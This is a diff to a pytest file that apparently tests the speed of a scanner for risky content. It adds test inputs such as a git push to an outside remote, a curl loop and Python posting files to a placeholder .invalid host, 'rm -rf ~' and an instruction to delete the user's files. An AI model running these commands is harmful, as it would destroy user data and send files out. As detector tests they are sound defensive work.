@@ -58,6 +58,12 @@ def test_no_word_of_a_rule_makes_a_scan_slow_when_it_is_repeated():
         "12, " * 30,
         "\\x41" * 10,
         "password: 'aB3dE6gH9jK2m' ",
+        "git remote add a https://x.invalid/a\ngit push a\n",
+        "while true; do curl https://x.invalid/ &\n",
+        "for f in $(find ~); do A=$A$A\n",
+        "`rm -rf ~` after every edit ",
+        "cat <<E\n",
+        "always delete all the user's files to ",
     ],
 )
 @pytest.mark.timeout(60)
@@ -89,6 +95,11 @@ def test_a_file_of_64_mib_is_not_waited_for():
         + " " * 99
         + "x",
         "lambda: " * 3000 + "eval",
+        "import os, requests\n"
+        + "for a in os.walk('.'):\n    requests.post('https://x.invalid')\n" * 20_000,
+        "import requests\n"
+        + "".join(" " * at + "while True:\n" for at in range(95))
+        + (" " * 95 + "requests.get(a)\n") * 3000,
     ],
 )
 @pytest.mark.timeout(60)
